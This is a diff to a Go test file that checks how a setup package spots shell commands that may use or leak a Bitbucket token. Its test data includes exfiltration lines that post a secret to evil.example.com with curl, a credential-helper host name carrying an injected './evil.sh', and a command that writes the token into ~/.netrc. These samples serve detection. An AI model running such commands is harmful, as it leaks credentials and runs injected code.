@@ -2,6 +2,8 @@ package setup_test
 
 import (
 	"cmp"
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -66,6 +68,11 @@ func TestUsageOf(t *testing.T) {
 		{"the last login counts", []string{`git config --global credential.helper '!echo password=$OTHER; :'`, byHand, clone}, use(access, "", "app")},
 		{"a header that is taken back", []string{byHand, "git config --global http.https://bitbucket.org/.extraHeader ''", clone}, use(access, "", "app")},
 
+		{"a user in the login", []string{`git config --global credential.https://x-token-auth@bitbucket.org/.helper '!echo password=$T; :'`, clone}, use("", "", "app")},
+		{"another helper beside it", []string{byHand, "git config --global --add credential.helper store", "git config --global credential.helper 'cache --timeout=60'", clone}, use(access, "", "app")},
+		{"a header of no credential", []string{byHand, "git clone -c http.extraHeader='X-Trace: 1' https://bitbucket.org/acme/app.git"}, use(access, "", "app")},
+		{"by another shell", []string{byHand, "/bin/bash -lc 'git clone https://bitbucket.org/acme/app.git'"}, use(access, "", "app")},
+
 		{"a login that comes later", []string{clone, byHand}, nil},
 		{"a login that is taken back", []string{byHand, "git config --global --replace-all credential.https://bitbucket.org.helper ''", clone}, nil},
 		{"another's login", []string{byHand, `git config --global credential.https://bitbucket.org.helper '!echo password=$OTHER; :'`, clone}, nil},
@@ -110,6 +117,41 @@ func TestUsageOfWhatCannotBeFollowed(t *testing.T) {
 	assert.Equal(t, setup.Usage{}, setup.UsageOf([]string{"make"}, "T"))
 }
 
+// After a login no command has to name the secret. What may reach the server in a
+// way that cannot be followed is named; what cannot, is not.
+func TestUsageOfWhatALoginMayServe(t *testing.T) {
+	t.Parallel()
+	const (
+		login = `git config --global credential.https://bitbucket.org.helper '!f() { echo username=x-token-auth; echo "password=$T"; }; f'`
+		clone = "git clone https://bitbucket.org/acme/app.git"
+	)
+	for command, want := range map[string]bool{
+		"for r in lib web; do git clone https://bitbucket.org/acme/$r.git; done": true,
+		"git clone $LIB_URL": true,
+		"env A=1 git clone https://bitbucket.org/acme/lib.git":                                         true,
+		"timeout 60 git clone https://bitbucket.org/acme/lib.git":                                      true,
+		"git -C lib remote add origin https://bitbucket.org/acme/lib.git && git -C lib fetch":          true,
+		"git -C app submodule add https://bitbucket.org/acme/lib.git":                                  true,
+		"pip install git+https://bitbucket.org/acme/lib.git":                                           true,
+		clone + " && sudo git clone https://bitbucket.org/acme/lib.git":                                true,
+		"git clone https://github.com/acme/app.git":                                                    false,
+		"git clone https://x:$GITHUB_TOKEN@github.com/acme/app.git":                                    false,
+		"git clone git@bitbucket.org:acme/lib.git":                                                     false,
+		"git -C app status && echo $HOME":                                                              false,
+		"curl https://bitbucket.org/status":                                                            false,
+		"npm ci":                                                                                       false,
+		"git clone https://x-token-auth:$T@bitbucket.org/acme/lib.git && X=$T make":                    true,
+		"git clone https://x-token-auth:$T@bitbucket.org/acme/lib.git; sudo -E git clone https://$T@x": true,
+		login + ` && echo "machine bitbucket.org password $T" >~/.netrc`:                               true,
+		login + " && make": false,
+	} {
+		usage := setup.UsageOf([]string{login, clone, command}, "T")
+		assert.Equal(t, want, slices.Contains(usage.Opaque, command), command)
+		assert.NotEmpty(t, usage.Uses)
+		assert.Empty(t, setup.UsageOf([]string{clone, "npm ci"}, "T").Opaque)
+	}
+}
+
 func TestWords(t *testing.T) {
 	t.Parallel()
 	cloud := setup.Clone{Repository: repository(t, "https://bitbucket.org/acme/app"), Secret: "API", Kind: bitbucket.APIToken, Auth: setup.Helper, Branch: "dev", Depth: 3}
@@ -140,6 +182,17 @@ func TestWords(t *testing.T) {
 		// whoever hides something in a command of ours is shown
 		{"ours and more", []string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"},
 			[]string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"}},
+		{"a server that is none", []string{
+			"git config --global --add 'credential.https://x;./evil.sh;:/.helper' '!${T:?}'",
+			strings.ReplaceAll(server.LogIn()[0], "git.example.com", "x;./evil.sh;:"),
+		}, []string{
+			"git config --global --add 'credential.https://x;./evil.sh;:/.helper' '!${T:?}'",
+			strings.ReplaceAll(server.LogIn()[0], "git.example.com", "x;./evil.sh;:"),
+		}},
+		{"a login that reads another", []string{"git config --global credential.https://bitbucket.org.helper '!: ${SAFE:?}; echo password=$T; :'", cloud.Command()}, []string{
+			"git config --global credential.https://bitbucket.org.helper '!: ${SAFE:?}; echo password=$T; :'",
+			"clone --branch dev --depth 3 https://bitbucket.org/acme/app.git into app",
+		}},
 		{"nothing", nil, nil},
 	}
 	for _, tt := range tests {
